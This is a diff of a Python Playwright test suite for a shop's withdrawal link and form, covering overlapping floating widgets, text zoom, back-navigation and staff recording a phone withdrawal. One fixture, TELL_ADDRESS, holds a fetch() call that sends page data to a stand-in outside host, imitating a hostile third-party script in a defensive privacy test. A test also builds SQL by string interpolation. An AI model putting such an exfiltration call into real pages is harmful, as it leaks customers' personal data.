@@ -10,7 +10,15 @@ import re
 import pytest
 from lxml import html
 from queue_process import SEND_MAILS
-from story import DESK, DESKTOP, clean, mails_to, make_user, see_accessible
+from story import (
+    DESK,
+    DESKTOP,
+    address_of,
+    clean,
+    mails_to,
+    make_user,
+    see_accessible,
+)
 from test_withdrawal_crashes import WORK
 
 from wsts.administrator import Administrator
@@ -18,11 +26,32 @@ from wsts.administrator import Administrator
 PHONE = {"width": 320, "height": 640}
 LINK = ".o_withdrawal_link a"
 BADGE = "[data-tb-element='trustbadge_minimised_container']"
-IS_COVERED = """(link) => {
+BAR = "#website_cookies_bar .modal.show .modal-content"
+# As a theme and a live chat would.
+FLOAT = """document.body.insertAdjacentHTML("beforeend", `
+    <style>.floats {position: fixed; bottom: 16px; width: 56px; height: 56px}</style>
+    <a class="floats" style="left: 16px; z-index: 1030">Up</a>
+    <a class="floats" style="right: 16px; z-index: 2000">Chat</a>
+`)"""
+# Moves to the link and tells whether its middle can be clicked.
+IS_FREE = """(link, how) => {
+    window.scrollTo(0, how === "end" ? document.documentElement.scrollHeight : 0);
+    if (how === "focus") {
+        link.focus();
+    }
     const {left, right, top, bottom} = link.getBoundingClientRect();
-    return [left + 1, right - 1].some(
-        (x) => !link.contains(document.elementFromPoint(x, (top + bottom) / 2))
+    const middle = [(left + right) / 2, (top + bottom) / 2];
+    return link.contains(document.elementFromPoint(...middle));
+}"""
+# What is wider than a narrow window when a reader doubles the size of the text.
+FIND_WIDE = """() => {
+    document.documentElement.style.fontSize = "200%";
+    const ours = document.querySelectorAll("#wrap *, .o_withdrawal_link *");
+    const wide = [...ours].filter(
+        (each) => each.getBoundingClientRect().right > window.innerWidth + 1
     );
+    document.documentElement.style.fontSize = "";
+    return wide.map((each) => each.outerHTML);
 }"""
 # What scripts of others do, some as soon as they can.
 TELL_ADDRESS = """fetch("https://theirs.example/tell?" + new URLSearchParams(
@@ -49,18 +78,6 @@ order = env["sale.order"].create(
 order.action_confirm()
 order._send_order_confirmation_mail()
 result = order.name
-"""
-DECLARE = """
-order = env["sale.order"].search([("name", "=", {order!r})])
-env["sale.withdrawal"]._declare(
-    "",
-    {{
-        "buyer_name": "Erika Mustermann", "email": {email!r}, "articles": "",
-        "order_reference": order.name, "order_id": order.id, "is_verified": True,
-        "company_id": order.company_id.id, "website_id": order.website_id.id,
-    }},
-)
-result = order.company_id.id
 """
 
 
@@ -105,15 +122,32 @@ def test_the_link_is_seen_on_a_phone_without_opening_anything(new_visitor):
         assert box["x"] >= 0 and box["x"] + box["width"] <= PHONE["width"], path
 
 
-def test_the_badge_does_not_cover_the_link_on_a_phone(new_visitor):
-    visitor = new_visitor(viewport=PHONE)
-    for path in ("/", "/shop"):
+@pytest.mark.parametrize("width", [320, 390, 1280])
+def test_nothing_that_floats_covers_the_link(new_visitor, change, width):
+    change("website", cookies_bar=True)
+    visitor = new_visitor(viewport={"width": width, "height": 640})
+    visitor.reach_payment(DESK, address_of("link@kunde.example"))
+    page, link = visitor.page, visitor.page.locator(LINK)
+    # The order button sticks to the lower end of a phone.
+    for path in ("/shop/payment", "/"):
         visitor.open(path)
-        visitor.page.locator(BADGE).wait_for()
-        bottom = "window.scrollTo(0, document.documentElement.scrollHeight)"
-        visitor.page.evaluate(bottom)
-        visitor.page.locator(LINK).scroll_into_view_if_needed()
-        assert not visitor.page.locator(LINK).evaluate(IS_COVERED), path
+        page.locator(BAR).wait_for()
+        page.evaluate(FLOAT)
+        for how in ("end", "focus"):
+            assert link.evaluate(IS_FREE, how), (path, how)
+    page.click("#cookies-consent-all")
+    page.locator(BAR).wait_for(state="hidden")
+    page.locator(BADGE).wait_for()
+    for how in ("end", "focus"):
+        assert link.evaluate(IS_FREE, how), how
+    margin = "(link) => getComputedStyle(link.parentElement).marginBottom"
+    assert link.evaluate(margin) == "0px"
+
+
+def see_readable(page):
+    """Check the part of the page that is ours."""
+    see_accessible(page, "#wrap")
+    assert page.evaluate(FIND_WIDE) == []
 
 
 def test_link_steps_and_receipt_are_accessible(new_visitor):
@@ -121,19 +155,21 @@ def test_link_steps_and_receipt_are_accessible(new_visitor):
     page = visitor.page
     page.goto(f"{visitor.url}/withdrawal")
     see_accessible(page, ".o_withdrawal_link")
-    see_accessible(page, "#wrap")
+    see_readable(page)
     page.fill("#buyer_name", "Erika Mustermann")
     page.fill("#email", "steps@kunde.example")
     page.click(".o_withdrawal_form button")
     page.locator("#order_reference_error").wait_for()
-    see_accessible(page, "#wrap")
+    see_readable(page)
     page.fill("#order_reference", "S0815")
     page.click(".o_withdrawal_form button")
     see_accessible(page, ".o_withdrawal_confirm")
-    see_accessible(page, "#wrap")
+    see_readable(page)
     page.click(".o_withdrawal_confirm button")
     page.locator("#wrap [role='status']").wait_for()
-    see_accessible(page, "#wrap")
+    see_readable(page)
+    page.go_back()
+    page.locator(".o_withdrawal_confirm").wait_for()
     assert visitor.errors == []
 
 
@@ -159,10 +195,18 @@ def test_a_buyer_who_has_only_the_mail_withdraws_by_keyboard(
     text = page.locator("#wrap").inner_text()
     assert sold in text and "Europe/Berlin" in text
     assert get_overflow(page) <= 0
+    # Back from there is no error, and pressing again declares nothing more.
+    page.go_back()
+    page.click(".o_withdrawal_confirm button")
+    page.locator("[role='status']").wait_for()
+    assert page.locator("#wrap").inner_text() == text
+    page.goto(read_link(shop, sold))
+    assert page.locator(".o_withdrawal_standing li").count() == 1
     queue.do(WORK)
     queue.do(SEND_MAILS)
-    [receipt] = mails_to(shop, EMAIL, "Widerruf erhalten")
-    assert sold in receipt["html"] and "2 × Lamp" in receipt["html"]
+    mails = mails_to(shop, EMAIL, "Widerruf erhalten")
+    [receipt] = [mail["html"] for mail in mails if sold in mail["html"]]
+    assert "2 × Lamp" in receipt
 
 
 def test_a_stranger_mails_exactly_what_the_second_step_shows(shop, queue, new_visitor):
@@ -229,20 +273,18 @@ def test_scripts_of_others_do_not_learn_the_secret_of_an_address(
     assert visitor.errors == []
 
 
-def test_staff_settle_a_withdrawal_from_its_order(
-    shop, queue, logged_in, chromium, sold
-):
-    declare = DECLARE.format(order=sold, email=EMAIL)
-    company = queue.do(declare)
-    queue.do(WORK)
+def test_staff_record_a_call_and_settle_it(shop, queue, logged_in, chromium, sold):
+    [[company]] = queue.query(
+        f"SELECT company_id FROM sale_order WHERE name = '{sold}'"
+    )
     login = make_user(
         logged_in,
         "base.group_user",
         "sales_team.group_sale_salesman_all_leads",
-        login="withdrawals@shop.example",
+        login="calls@shop.example",
         odoobot_state="disabled",  # its chat would cover buttons
-        company_id=company,
-        company_ids=[[6, 0, [company]]],
+        company_id=int(company),
+        company_ids=[[6, 0, [int(company)]]],
     )
     context = chromium.new_context(locale="en-US", viewport=DESKTOP)
     staff = Administrator(context.new_page(), shop.url).log_in(login, login)
@@ -251,8 +293,18 @@ def test_staff_settle_a_withdrawal_from_its_order(
     page.locator(".o_searchview_input").fill(sold)
     page.keyboard.press("Enter")
     page.locator(".o_data_row", has_text=sold).locator("td[name='name']").click()
-    page.click("button[name='action_view_withdrawals']:visible")
+    page.click("button[name='action_record_withdrawal']:visible")
+    staff.choose("channel", "Telephone")
+    page.locator("[name='note'] textarea").fill("The lamp is too bright")
+    page.click("button[name='action_record']")
+    page.locator("button[name='action_mark_valid']").wait_for()
     assert staff.read("order_reference") == sold
+    queue.do(WORK)
+    queue.do(SEND_MAILS)
+    mails = mails_to(shop, EMAIL, "Widerruf erhalten")
+    [receipt] = [mail["html"] for mail in mails if sold in mail["html"]]
+    assert "The lamp is too bright" in receipt
+    assert login not in receipt
     staff.press("action_mark_valid")
     staff.press("action_settle")
     page.locator("button[name='action_settle']").wait_for(state="hidden")
